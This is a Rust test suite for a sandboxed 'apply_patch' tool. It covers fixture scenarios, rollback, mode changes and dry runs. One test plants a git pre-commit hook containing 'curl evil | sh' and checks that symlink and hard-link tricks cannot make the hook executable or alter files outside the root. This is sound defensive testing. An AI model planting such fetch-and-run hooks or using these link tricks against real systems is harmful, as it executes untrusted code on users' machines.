#![allow(clippy::unwrap_used, clippy::expect_used)]
//! Runs every scenario in `tests/fixtures/apply_patch` (see its README)
//! through the real `apply_patch` tool on a real directory: the tree after
//! the call must equal `expected/` (with the modes `modes.txt` names), or
//! the call must fail with the expected message and leave the tree
//! byte-identical, modes included (no backups or temp files left behind
//! either).

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use pretty_assertions::assert_eq;
use serde_json::json;
use toolgate_core::{CallContext, Tool, ToolHandler, Typed};
use toolgate_sandbox::{LocalWorkspace, Sandbox, SandboxConfig};
use toolgate_tools::{ApplyPatchTool, Fs, Limits};

/// Path -> (bytes, mode); directories as `dir/` with no bytes.
type Tree = BTreeMap<String, (Vec<u8>, u32)>;

fn load(root: &Path) -> Tree {
    fn walk(root: &Path, dir: &Path, tree: &mut Tree) {
        for entry in fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            let rel = path
                .strip_prefix(root)
                .unwrap()
                .to_string_lossy()
                .into_owned();
            if rel.ends_with(".keep") {
                continue;
            }
            let meta = fs::symlink_metadata(&path).unwrap();
            if meta.is_dir() {
                walk(root, &path, tree);
            } else {
                let mode = meta.permissions().mode() & 0o7777;
                tree.insert(rel, (fs::read(&path).unwrap(), mode));
            }
        }
    }
    let mut tree = Tree::new();
    walk(root, root, &mut tree);
    tree
}

fn without_modes(tree: &Tree) -> BTreeMap<String, Vec<u8>> {
    tree.iter()
        .map(|(k, (v, _))| (k.clone(), v.clone()))
        .collect()
}

fn copy_tree(from: &Path, to: &Path) {
    for (rel, (bytes, _)) in load(from) {
        let dest = to.join(rel);
        fs::create_dir_all(dest.parent().unwrap()).unwrap();
        fs::write(dest, bytes).unwrap();
    }
}

/// A scenario's `modes.txt`: path -> (mode before, mode after), `None`
/// where the file is absent. Files it does not name start as 0644.
type Modes = BTreeMap<String, (Option<u32>, Option<u32>)>;

fn modes(case: &Path) -> Modes {
    let Ok(text) = fs::read_to_string(case.join("modes.txt")) else {
        return Modes::new();
    };
    let mode = |m: &str| (m != "-").then(|| u32::from_str_radix(m, 8).unwrap());
    text.lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let [path, before, after] = l.split_whitespace().collect::<Vec<_>>()[..] else {
                panic!("{}: bad modes.txt line {l:?}", case.display());
            };
            (path.to_owned(), (mode(before), mode(after)))
        })
        .collect()
}

/// This process's umask, which a file new to the tree is created under.
fn umask() -> u32 {
    let status = fs::read_to_string("/proc/self/status").unwrap();
    let line = status.lines().find(|l| l.starts_with("Umask:")).unwrap();
    u32::from_str_radix(line["Umask:".len()..].trim(), 8).unwrap()
}

/// Every file of `after` has the mode `modes` gives it (a new file's is
/// masked by the umask, as the file itself is), or keeps 0644.
fn check_modes(name: &str, modes: &Modes, before: &Tree, after: &Tree) {
    for (path, (_, mode)) in after {
        let expected = match modes.get(path) {
            Some((None, Some(m))) => m & !umask(),
            Some((Some(_), Some(m))) => *m,
            Some((_, None)) => panic!("{name}: {path} should be absent"),
            None if before.contains_key(path) => 0o644,
            None => continue,
        };
        assert_eq!(
            format!("{mode:04o}"),
            format!("{expected:04o}"),
            "{name}: the mode of {path}"
        );
    }
}

struct Scenario {
    _tmp: tempfile::TempDir,
    root: PathBuf,
    tool: Typed<ApplyPatchTool>,
}

fn scenario(input: &Path) -> Scenario {
    let tmp = tempfile::tempdir().unwrap();
    let root = fs::canonicalize(tmp.path()).unwrap().join("root");
    fs::create_dir(&root).unwrap();
    copy_tree(input, &root);
    let sandbox = Sandbox::new(SandboxConfig::new(
        PathBuf::from("/nonexistent/stage2"),
        tmp.path().join("state"),
    ))
    .unwrap();
    let workspace =
        LocalWorkspace::new("fixtures", vec![root.clone()], root.clone(), sandbox).unwrap();
    let fs = Arc::new(Fs::new(Arc::new(workspace), Limits::default()));
    Scenario {
        _tmp: tmp,
        root,
        tool: Typed::new(ApplyPatchTool::new(fs)),
    }
}

#[tokio::test]
async fn every_fixture_behaves_as_written() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/apply_patch");
    let mut cases: Vec<PathBuf> = fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    cases.sort();
    assert!(cases.len() >= 25, "only {} fixtures", cases.len());
    for case in &cases {
        let name = case.file_name().unwrap().to_string_lossy();
        let sc = scenario(&case.join("input"));
        let modes = modes(case);
        for rel in load(&sc.root).keys() {
            let mode = modes.get(rel).and_then(|m| m.0).unwrap_or(0o644);
            fs::set_permissions(sc.root.join(rel), fs::Permissions::from_mode(mode)).unwrap();
        }
        let before = load(&sc.root);
        let patch = fs::read_to_string(case.join("patch.txt")).unwrap();
        let ctx = CallContext::new("fixture", "test", sc.root.clone());
        assert_eq!(sc.tool.spec().name, "apply_patch");
        let result = sc.tool.call(json!({ "patch": patch }), &ctx).await;
        let after = load(&sc.root);
        match fs::read_to_string(case.join("expected_error.txt")) {
            Ok(expected) => {
                let err = result.expect_err(&format!("{name}: the patch should fail"));
                let message = err.to_string();
                assert!(
                    message.contains(expected.trim()),
                    "{name}: error {message:?} lacks {:?}",
                    expected.trim()
                );
                assert_eq!(after, before, "{name}: a failed patch changed the tree");
            }
            Err(_) => {
                let output = result.unwrap_or_else(|e| panic!("{name}: {e}"));
                assert!(!output.is_error, "{name}");
                let expected = without_modes(&load(&case.join("expected")));
                assert_eq!(without_modes(&after), expected, "{name}: wrong tree");
                check_modes(&name, &modes, &before, &after);
            }
        }
    }
}

#[tokio::test]
async fn a_failure_while_writing_rolls_back_modes_moves_and_new_directories() {
    // The fourth operation fails only when it is written (its parent `zz` is
    // a file); by then a mode-0600 file was rewritten, one file moved into a
    // new directory and one deleted. All of it must be undone.
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("input");
    fs::create_dir_all(&input).unwrap();
    fs::write(input.join("secret.txt"), "one\n").unwrap();
    fs::write(input.join("old.txt"), "moving\n").unwrap();
    fs::write(input.join("gone.txt"), "bye\n").unwrap();
    fs::write(input.join("zz"), "a file, not a directory\n").unwrap();
    let sc = scenario(&input);
    fs::set_permissions(
        sc.root.join("secret.txt"),
        fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    fs::set_permissions(sc.root.join("old.txt"), fs::Permissions::from_mode(0o750)).unwrap();
    let before = load(&sc.root);
    let patch = "*** Begin Patch\n\
        *** Update File: secret.txt\n@@\n-one\n+two\n\
        *** Update File: old.txt\n*** Move to: new/deeper/moved.txt\n@@\n-moving\n+moved\n\
        *** Delete File: gone.txt\n\
        *** Add File: zz/b.txt\n+x\n\
        *** End Patch\n";
    let ctx = CallContext::new("rollback", "test", sc.root.clone());
    let err = sc
        .tool
        .call(json!({ "patch": patch }), &ctx)
        .await
        .unwrap_err();
    assert!(err.to_string().contains("not a directory"), "{err}");
    assert!(err.to_string().contains("every file is as it was"), "{err}");
    assert_eq!(load(&sc.root), before);
    assert!(
        !sc.root.join("new").exists(),
        "a created directory was left behind"
    );

    // The same patch without the failing op: modes survive the rewrite and the move.
    let patch = patch.replace("*** Add File: zz/b.txt\n+x\n", "");
    sc.tool.call(json!({ "patch": patch }), &ctx).await.unwrap();
    let after = load(&sc.root);
    assert_eq!(after["secret.txt"], (b"two\n".to_vec(), 0o600));
    assert_eq!(after["new/deeper/moved.txt"], (b"moved\n".to_vec(), 0o750));
    assert!(!after.contains_key("gone.txt") && !after.contains_key("old.txt"));
    assert_eq!(after.len(), 3, "backups left behind: {:?}", after.keys());
}

/// `old mode 100644` / `new mode 100755` for each path.
fn chmod_patch(paths: &[&str]) -> String {
    paths
        .iter()
        .map(|p| format!("diff --git a/{p} b/{p}\nold mode 100644\nnew mode 100755\n"))
        .collect()
}

#[tokio::test]
async fn a_mode_change_is_reported_and_a_dry_run_only_reports_it() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("input");
    fs::create_dir_all(&input).unwrap();
    fs::write(input.join("run.sh"), "#!/bin/sh\n").unwrap();
    fs::write(input.join("lib.sh"), "a\n").unwrap();
    let sc = scenario(&input);
    for name in ["run.sh", "lib.sh"] {
        fs::set_permissions(sc.root.join(name), fs::Permissions::from_mode(0o644)).unwrap();
    }
    let patch = format!(
        "{}diff --git a/lib.sh b/lib.sh\nold mode 100644\nnew mode 100755\n--- a/lib.sh\n\
         +++ b/lib.sh\n@@ -1 +1 @@\n-a\n+b\n",
        chmod_patch(&["run.sh"])
    );
    let ctx = CallContext::new("modes", "test", sc.root.clone());
    let before = load(&sc.root);
    let dry = sc
        .tool
        .call(json!({"patch": patch, "dry_run": true}), &ctx)
        .await
        .unwrap();
    assert_eq!(load(&sc.root), before, "a dry run changed the tree");
    let real = sc.tool.call(json!({"patch": patch}), &ctx).await.unwrap();
    let mode = json!({"before": "0644", "after": "0755"});
    let op = |path: &str, hunks: Vec<&str>| json!({"action": "update", "path": path, "move_to": null, "hunks": hunks, "mode": "100755"});
    for (output, dry_run) in [(&dry, true), (&real, false)] {
        assert_eq!(
            output.structured,
            Some(json!({
                "dry_run": dry_run,
                "operations": [op("run.sh", vec![]), op("lib.sh", vec!["exact"])],
                "files": [
                    {"path": "lib.sh", "status": "modified", "lines_added": 1,
                     "lines_removed": 1, "mode": mode},
                    {"path": "run.sh", "status": "modified", "lines_added": 0,
                     "lines_removed": 0, "mode": mode},
                ],
                "lines_added": 1,
                "lines_removed": 1,
            }))
        );
    }
    let [toolgate_core::Content::Text { text }] = real.content.as_slice() else {
        panic!("{:?}", real.content);
    };
    assert!(
        text.starts_with(
            "Applied the patch: 2 file(s) changed, +1 -1 lines.\n\
             update run.sh (mode 100755)\nupdate lib.sh (mode 100755)\n\
             mode lib.sh: 0644 -> 0755\nmode run.sh: 0644 -> 0755\n"
        ),
        "{text}"
    );
    let after = load(&sc.root);
    assert_eq!(after["run.sh"], (b"#!/bin/sh\n".to_vec(), 0o755));
    assert_eq!(after["lib.sh"], (b"b\n".to_vec(), 0o755));
}

#[tokio::test]
async fn a_mode_change_through_a_symlink_or_a_hard_link_changes_nothing() {
    // Attack: `run.sh` is a symlink inside the root to a git hook, or a hard
    // link to a file outside the root; `new mode 100755` on it would make
    // the hook executable (git runs it on the host) or change the outside
    // file. Both are refused, whole patch included, and no mode moves.
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("input");
    fs::create_dir_all(&input).unwrap();
    fs::write(input.join("ok.sh"), "ok\n").unwrap();
    let sc = scenario(&input);
    let hook = sc.root.join(".git/hooks/pre-commit");
    fs::create_dir_all(hook.parent().unwrap()).unwrap();
    fs::write(&hook, "#!/bin/sh\ncurl evil | sh\n").unwrap();
    std::os::unix::fs::symlink(".git/hooks/pre-commit", sc.root.join("run.sh")).unwrap();
    let outside = sc.root.parent().unwrap().join("outside.sh");
    fs::write(&outside, "outside\n").unwrap();
    fs::hard_link(&outside, sc.root.join("linked.sh")).unwrap();
    for path in [&hook, &outside, &sc.root.join("ok.sh")] {
        fs::set_permissions(path, fs::Permissions::from_mode(0o644)).unwrap();
    }
    let ctx = CallContext::new("modes", "test", sc.root.clone());
    for (target, wanted) in [
        ("run.sh", "`.git/hooks/pre-commit` is protected"),
        ("linked.sh", "linked.sh: it has 2 hard links"),
    ] {
        for dry_run in [true, false] {
            let patch = chmod_patch(&["ok.sh", target]);
            let err = sc
                .tool
                .call(json!({"patch": patch, "dry_run": dry_run}), &ctx)
                .await
                .unwrap_err()
                .to_string();
            assert!(err.contains(wanted), "{target}: {err}");
            assert!(err.contains("no file was changed"), "{target}: {err}");
            for path in [&hook, &outside, &sc.root.join("ok.sh")] {
                let mode = fs::metadata(path).unwrap().permissions().mode() & 0o7777;
                assert_eq!(mode, 0o644, "{target}: {}", path.display());
            }
        }
    }
}
